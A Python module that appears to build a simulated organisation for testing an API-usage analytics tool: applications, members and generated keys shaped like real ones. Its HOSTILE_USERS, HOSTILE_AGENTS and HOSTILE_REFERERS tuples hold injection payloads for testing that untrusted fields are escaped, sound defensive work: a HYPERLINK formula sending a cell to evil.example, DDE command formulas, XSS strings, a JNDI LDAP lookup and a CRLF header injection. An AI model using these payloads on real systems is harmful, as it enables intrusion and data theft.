"""The simulated organisation: its applications, workspaces, people and keys, and the strangers among them."""

from __future__ import annotations

from dataclasses import dataclass

from orstats.sim.seeds import hexadecimal, uuid_of

WORKSPACE_NAMES: dict[str, str] = {uuid_of("workspace", name): name for name in ("Production", "Research", "Studio")}
PRODUCTION, RESEARCH, STUDIO = WORKSPACE_NAMES

PRESETS: tuple[str, ...] = tuple(uuid_of("preset", name) for name in ("support-tone", "strict-json", "reviewer"))

_BROWSER = (
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/141.0.0.0 Safari/537.36"
)


@dataclass(frozen=True, slots=True)
class App:
    """One application that spends the account's money.

    ``talks`` is its share of the conversations, ``asks`` its share of the single requests. ``attached`` is
    the usual size, in tokens, of the documents that it sends along. With ``zero_retention`` nothing that it
    says is ever stored.
    """

    name: str
    app_id: int | None
    origin: str
    referer: str | None
    workspace: str
    agents: tuple[str, ...]
    users: tuple[str | None, ...]
    subject: str
    talks: float
    asks: float
    attached: int = 900
    streams: float = 0.9
    zero_retention: bool = False


_CUSTOMERS = tuple(f"customer-{48_213 + 137 * n}" for n in range(48))
_PEOPLE = (
    "ana.silva@northwind.example",
    "jonas.weber@northwind.example",
    "mei.tanaka@northwind.example",
    "o'brien.k@northwind.example",
    "zoë.dubois@northwind.example",
)

HELPDESK = App(
    "Helpdesk",
    1_042_317,
    "https://help.northwind.example",
    "https://help.northwind.example/",
    PRODUCTION,
    ("AsyncOpenAI/Python 1.109.1", "AsyncOpenAI/Python 2.3.0"),
    _CUSTOMERS,
    "support",
    talks=5,
    asks=3,
)
REVIEWER = App(
    "Review bot",
    1_187_664,
    "https://review.northwind.example",
    "https://review.northwind.example",
    RESEARCH,
    ("node", "OpenAI/JS 5.23.1"),
    ("team-platform", "team-mobile", "team-data", None),
    "code",
    talks=2,
    asks=3,
    attached=4200,
)
CONTRACTS = App(
    "Contract reader",
    1_203_951,
    "https://legal.northwind.example",
    "https://legal.northwind.example/review",
    PRODUCTION,
    ("python-httpx/0.28.1",),
    ("legal-emea", "legal-amer"),
    "contracts",
    talks=0.5,
    asks=0.9,
    attached=9000,
    streams=0.2,
    zero_retention=True,
)
ENRICHMENT = App(
    "Catalogue enrichment",
    1_098_220,
    "https://jobs.northwind.example",
    "https://jobs.northwind.example/",
    PRODUCTION,
    ("Go-http-client/2.0", "litellm/1.78.5"),
    (None,),
    "catalogue",
    talks=0.2,
    asks=3.5,
    attached=320,
    streams=0.03,
)
ANALYST = App(
    "Metrics assistant",
    1_251_402,
    "https://metrics.northwind.example",
    "https://metrics.northwind.example/ask",
    RESEARCH,
    (_BROWSER, "langchain-openai/0.3.35"),
    _PEOPLE,
    "metrics",
    talks=3,
    asks=1.2,
)
CHATROOM = App(
    "OpenRouter: Chatroom",
    None,
    "https://openrouter.ai/",
    "https://openrouter.ai/",
    RESEARCH,
    (_BROWSER,),
    (None,),
    "research",
    talks=1.5,
    asks=0.6,
    streams=1.0,
)
SCRIPTS = App(
    "",
    None,
    "",
    None,
    RESEARCH,
    ("python-requests/2.32.5", "curl/8.7.1", "aiohttp/3.13.0"),
    (None,),
    "research",
    talks=0.3,
    asks=1.2,
    streams=0.35,
)
DESIGN = App(
    "Campaign studio",
    1_266_873,
    "https://studio.northwind.example",
    "https://studio.northwind.example/",
    STUDIO,
    ("axios/1.12.2",),
    ("brand-eu", "brand-us"),
    "campaign",
    talks=0.4,
    asks=0.6,
    streams=0.5,
)

APPS: tuple[App, ...] = (HELPDESK, ENRICHMENT, ANALYST, REVIEWER, CHATROOM, SCRIPTS, CONTRACTS, DESIGN)

# Texts that strangers put into fields which a report, a spreadsheet or a notebook will show one day.
HOSTILE_USERS: tuple[str, ...] = (
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "<script>alert('user')</script>",
    '👩🏽‍🚀 Zoë \u202eevil\u202c, "quoted"',
    "two\nlines\tand a tab",
    "-2+3",
)
HOSTILE_AGENTS: tuple[str, ...] = (
    "<img src=x onerror=alert(1)>",
    "Mozilla/5.0 ${jndi:ldap://evil.example/a}",
    "=cmd|' /C calc'!A0",
)
HOSTILE_REFERERS: tuple[str, ...] = (
    "javascript:alert(document.domain)",
    'https://evil.example/"><svg onload=alert(1)>',
    "https://evil.example/?q=a,b;c\r\nX-Injected: 1",
)


@dataclass(frozen=True, slots=True)
class Member:
    """A member of the organisation."""

    name: str
    email: str
    user_id: str


@dataclass(frozen=True, slots=True)
class ApiKey:
    """A key, the applications that use it, and who created it.

    Analytics name keys and members, and filter by ``hash`` and ``user_id``.
    """

    name: str
    hash: str
    secret: str
    creator: Member
    workspace: str
    apps: tuple[App, ...] = ()
    limit: float | None = None
    disabled: bool = False


@dataclass(frozen=True, slots=True)
class Keys:
    """The account's keys: an administrator's and a plain one that clients may use, others, and one for management."""

    admin: ApiKey
    plain: ApiKey
    others: tuple[ApiKey, ...]
    management: str

    @property
    def listed(self) -> tuple[ApiKey, ...]:
        """All but the management key."""
        return (self.admin, self.plain, *self.others)


def keys_of(seed: int, *, awkward: bool = False) -> Keys:
    """Make the account's keys, shaped like real ones.

    Parameters
    ----------
    seed
        The account's.
    awkward
        Whether two keys have the same name.

    Examples
    --------
    >>> keys_of(0).admin.secret.startswith("sk-or-v1-"), len(keys_of(0).admin.secret)
    (True, 73)
    """

    def member(name: str) -> Member:
        return Member(
            name, f"{name.partition(' ')[0].lower()}@northwind.example", f"user_2{hexadecimal(26, seed, name)}"
        )

    def secret(name: str) -> str:
        return f"sk-or-v1-{hexadecimal(64, seed, 'key', name)}"

    def key(ident: str, name: str, creator: Member, *apps: App, limit: float | None = None) -> ApiKey:
        workspace = apps[0].workspace if apps else RESEARCH
        hashed = hexadecimal(64, seed, "key-hash", ident)
        return ApiKey(name, hashed, secret(ident), creator, workspace, apps, limit, disabled=not apps)

    ana, jonas, mei = member("Ana Silva"), member("Jonas Weber"), member("Mei Tanaka")
    return Keys(
        admin=key("admin", "Notebooks", ana, ANALYST, SCRIPTS),
        plain=key("plain", "Campaign studio", mei, DESIGN, limit=100),
        others=(
            key("helpdesk", "Production", jonas, HELPDESK),
            key("jobs", "Production" if awkward else "Batch jobs", jonas, ENRICHMENT),
            key("ci", "CI", jonas, REVIEWER),
            key("legal", "Legal", mei, CONTRACTS, limit=500),
            key("laptop", "Old laptop", ana),
        ),
        management=secret("management"),
    )


def label_of(key: str) -> str:
    """Shorten a key as the API does in its answers.

    Examples
    --------
    >>> label_of("sk-or-v1-0e6" + "0" * 57 + "1c96")
    'sk-or-v1-0e6...c96'
    """
    return f"{key[:12]}...{key[-3:]}"
